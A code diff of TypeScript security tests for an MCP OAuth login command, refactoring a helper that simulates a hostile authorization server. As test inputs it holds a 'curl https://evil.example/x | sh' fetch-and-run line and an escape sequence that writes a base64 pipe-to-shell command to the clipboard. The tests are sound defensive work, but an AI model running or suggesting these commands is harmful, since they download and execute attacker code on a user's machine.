@@ -25,6 +25,31 @@ function storeDir(): McpOAuthStore {
   return new McpOAuthStore(path.join(dir, 'oauth'));
 }
 
+/**
+ * A login against the test's authorization server whose browser is sent back to the loopback callback at once with
+ * the query `params(page)` gives (page: the authorization address the login handed out): the login's error, if any,
+ * and the callback's answer to that redirect.
+ */
+async function loginRedirectedWith(params: (page: URL) => Record<string, string>): Promise<{ error: Error | undefined; answered: Response }> {
+  servers = await startOAuthTestServers();
+  let answered: Promise<Response> | undefined;
+  const login = loginMcpServer({
+    name: 'remote',
+    config: { type: 'http', url: servers.mcpUrl, headers: {} },
+    store: storeDir(),
+    openBrowser: false,
+    timeoutMs: 20_000,
+    onAuthorizationUrl: (url) => {
+      const page = new URL(url);
+      const back = new URL(page.searchParams.get('redirect_uri')!);
+      for (const [key, value] of Object.entries(params(page))) back.searchParams.set(key, value);
+      answered = fetch(back);
+    },
+  });
+  const error = await login.then(() => undefined, (e: unknown) => e as Error);
+  return { error, answered: await answered! };
+}
+
 // eslint-disable-next-line no-control-regex -- what a terminal acts on is what is looked for
 const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;
 
@@ -48,26 +73,11 @@ describe('the login a person types (`toolgate mcp login`) against a hostile auth
   // login's error, which `toolgate mcp login` writes to the terminal as is: escape sequences (OSC 52 sets the
   // clipboard, others redraw the screen) reached the person's terminal.
   it('an error_description carrying escape sequences reaches the error without a control character', async () => {
-    servers = await startOAuthTestServers();
-    const store = storeDir();
-    let answered: Promise<Response> | undefined;
-    const login = loginMcpServer({
-      name: 'remote',
-      config: { type: 'http', url: servers.mcpUrl, headers: {} },
-      store,
-      openBrowser: false,
-      timeoutMs: 20_000,
-      onAuthorizationUrl: (url) => {
-        const page = new URL(url);
-        const back = new URL(page.searchParams.get('redirect_uri')!);
-        back.searchParams.set('error', 'access_denied');
-        back.searchParams.set('error_description', 'denied\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[1;1Hall good');
-        back.searchParams.set('state', page.searchParams.get('state')!);
-        answered = fetch(back);
-      },
-    });
-    const error = await login.then(() => undefined, (e: unknown) => e as Error);
-    await answered;
+    const { error } = await loginRedirectedWith((page) => ({
+      error: 'access_denied',
+      error_description: 'denied\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[1;1Hall good',
+      state: page.searchParams.get('state')!,
+    }));
     expect(error?.message).toMatch(/access_denied/);
     expect(error?.message).not.toMatch(CONTROL);
   });
@@ -75,24 +85,8 @@ describe('the login a person types (`toolgate mcp login`) against a hostile auth
   // Any page the browser opens can send it to the loopback callback. An error answer was taken before the state was
   // asked, so a page without the login's state ended the login and put its words in the authorization server's mouth.
   it('an error redirect without the login\'s state is refused as forged; its text is not repeated as the server\'s', async () => {
-    servers = await startOAuthTestServers();
-    const store = storeDir();
-    let answered: Promise<Response> | undefined;
-    const login = loginMcpServer({
-      name: 'remote',
-      config: { type: 'http', url: servers.mcpUrl, headers: {} },
-      store,
-      openBrowser: false,
-      timeoutMs: 20_000,
-      onAuthorizationUrl: (url) => {
-        const back = new URL(new URL(url).searchParams.get('redirect_uri')!);
-        back.searchParams.set('error', 'token_revoked');
-        back.searchParams.set('error_description', 'reinstall with: curl https://evil.example/x | sh');
-        answered = fetch(back);
-      },
-    });
-    const error = await login.then(() => undefined, (e: unknown) => e as Error);
-    expect((await answered!).status).toBe(400);
+    const { error, answered } = await loginRedirectedWith(() => ({ error: 'token_revoked', error_description: 'reinstall with: curl https://evil.example/x | sh' }));
+    expect(answered.status).toBe(400);
     expect(error?.message).toMatch(/did not carry this login's state/);
     expect(error?.message).not.toMatch(/evil|token_revoked/);
   });
